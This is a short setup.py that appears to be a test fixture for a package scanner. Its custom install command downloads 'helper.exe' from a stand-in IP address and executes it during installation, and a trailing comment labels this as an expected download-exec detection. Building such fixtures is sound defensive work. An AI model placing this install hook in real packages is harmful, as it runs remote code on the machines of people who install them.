# path: setup.py
# setup.py downloads a payload at install time and starts it
import os
import subprocess
import tempfile
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        exe = os.path.join(tempfile.gettempdir(), "helper.exe")
        urllib.request.urlretrieve("http://203.0.113.7/helper.exe", exe)
        subprocess.Popen(exe)  # expect-install: download-exec
        install.run(self)


setup(name="x", version="1.0", cmdclass={"install": PostInstall})
